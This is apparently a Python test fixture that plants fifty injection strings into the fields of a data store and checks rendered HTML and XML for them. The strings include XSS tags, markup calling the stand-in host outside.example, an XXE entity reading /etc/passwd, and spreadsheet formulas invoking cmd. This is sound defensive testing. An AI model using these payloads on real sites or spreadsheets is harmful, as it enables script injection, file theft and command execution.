"""Texts that try to become markup, code or a formula, planted in every field of a store; and how to see it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from lxml import etree
from lxml import html as markup

from graph.library import Reading
from graph.model import Literal
from graph.write import Writer
from tests.explorer_store import Sheet
from tests.made import integer

HOST = "outside.example"
"""Stands in each text that would call another machine: none may be called."""

INJECTIONS = (
    "<script>alert(1)</script>",
    "<script src=//outside.example/a.js></script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt>alert(3)</sCrIpT>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<img src=x onerror=alert(5)>",
    "<img src='http://outside.example/x.png'>",
    '"><img src=//outside.example/y.png>',
    "'><svg onload=alert(6)>",
    '" onmouseover="alert(7)',
    "' onfocus='alert(8)' autofocus='",
    "<svg><script>alert(9)</script></svg>",
    "<svg/onload=alert(10)>",
    "<math><mi//xlink:href='data:x,<script>alert(11)</script>'>",
    "<iframe src='//outside.example/'></iframe>",
    "<iframe srcdoc='<script>alert(12)</script>'>",
    "<object data='//outside.example/z'></object>",
    "<embed src='//outside.example/z'>",
    "<link rel=stylesheet href='//outside.example/z.css'>",
    "<style>@import '//outside.example/z.css';</style>",
    "</style><script>alert(13)</script>",
    "<base href='//outside.example/'>",
    "<meta http-equiv=refresh content='0;url=//outside.example/'>",
    "<form action='//outside.example/'><button>ok</button></form>",
    "<input autofocus onfocus=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "<video src=//outside.example/v onerror=alert(16)>",
    "<body onload=alert(17)>",
    "<a href='javascript:alert(18)'>click</a>",
    "[click](javascript:alert(19))",
    "![x](http://outside.example/m.png)",
    "[x]: http://outside.example/ref\n[x]",
    "<!--><script>alert(20)</script>-->",
    "<![CDATA[<script>alert(21)</script>]]>",
    "]]><script>alert(22)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;alert(23)&lt;/script&gt;",
    "&#60;script&#62;alert(24)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(25)\\u003c/script\\u003e",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "{count} {0} %s %(name)s",
    "`<img src=x onerror=alert(26)>`",
    "$$\\href{javascript:alert(27)}{x}$$",
    ":material/bolt: :red[x] :material-<b>",
    '=HYPERLINK("http://outside.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tx\u202ereversed\u202c \u200b\ufeff",
    '"} GRAPH <x:y> { <a:b> <c:d> "',
)
"""Fifty texts."""

_CALLING = {"script", "iframe", "object", "embed", "frame", "link", "img", "video", "audio", "source", "form", "base"}
_ALLOWED_SCRIPT = "application/ld+json"


def planted() -> list[Reading]:
    """Documents in whose title, place, names and values each text stands."""
    return [_document(number, text) for number, text in enumerate(INJECTIONS)]


def _document(number: int, text: str) -> Reading:
    name = f"Body {number} {text}"
    sheet = Sheet(f"Project{number} is led by {name} since 2019. It aims at {text} end.", "en", f"Title {text}")
    sheet.document = replace(sheet.document, rights=f"Rights {text}")
    project = sheet.thing("Project", f"Project{number}", "acronym")
    body = sheet.thing("Organization", name, country="IT")
    practice = sheet.thing("GoodPractice", f"led by {name}")
    sheet.say(project, "leadPartner", body, name)
    sheet.say(project, "sharesPractice", practice, f"led by {name}")
    sheet.say(project, "aim", Literal(f"aims at {text} end", language="en"), f"aims at {text} end")
    sheet.say(project, "partnerCount", integer(number), "2019")
    return sheet.reading(f"/folder/{number} {text.replace('/', '∕')}.txt")


def make_store(folder: Path) -> Path:
    """A store with all of them."""
    with Writer(folder) as writer:
        writer.put(planted())
    return folder


def faults(page: str | bytes) -> list[str]:
    """What in a page of HTML is not of our own making: elements that run or call, attributes that do."""
    found = []
    for element in markup.document_fromstring(page or "<p></p>").iter():
        if not isinstance(element.tag, str):
            continue
        calls = [value for value in element.attrib.values() if HOST in str(value) and element.tag in _CALLING]
        if element.tag == "script" and element.get("type") != _ALLOWED_SCRIPT and "alert" in (element.text or ""):
            calls.append(element.text or "")
        if element.tag in {"iframe", "object", "embed", "base", "math", "video"}:
            calls.append(element.tag)
        calls += [name for name in map(str, element.attrib) if name.startswith("on")]
        addresses = [str(element.get(name, "")) for name in ("href", "src", "action", "xlink:href", "formaction")]
        calls += [
            one for one in addresses if one.strip().casefold().startswith(("javascript:", "data:text", "vbscript:"))
        ]
        found += [f"{element.tag}: {one}" for one in calls]
    return found


def xml_texts(document: bytes) -> list[str]:
    """All texts and attributes of an XML document, which must be well-formed and declare no entities."""
    assert b"<!ENTITY" not in document
    assert b"<!DOCTYPE" not in document
    root = etree.fromstring(document, etree.XMLParser(resolve_entities=False, no_network=True))
    return [text for one in root.iter() for text in (one.text or "", *map(str, one.attrib.values()))]
